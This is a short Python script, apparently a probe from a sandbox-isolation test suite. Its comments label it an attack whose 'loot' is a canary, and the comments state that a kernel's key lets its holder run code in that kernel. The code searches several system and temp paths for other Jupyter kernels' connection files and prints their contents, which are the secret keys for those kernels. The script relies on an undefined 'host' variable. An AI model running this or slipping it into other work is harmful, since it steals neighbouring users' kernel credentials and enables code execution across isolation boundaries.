# attacks: compression
# wall: files
# loot: canary -- who has a kernel's key may run code in it
import glob

for place in [*host["connection"], *glob.glob("/run/kernels/*/*"), *glob.glob("/tmp/**/*connection*.json", recursive=True),
              *glob.glob("/root/.local/share/jupyter/runtime/*"), *glob.glob("/run/user/*/jupyter/*")]:
    if "neighbour" in place or place not in get_ipython().kernel.config.get("IPKernelApp", {}).get("connection_file", ""):
        try:
            print(open(place).read())
        except OSError:
            pass
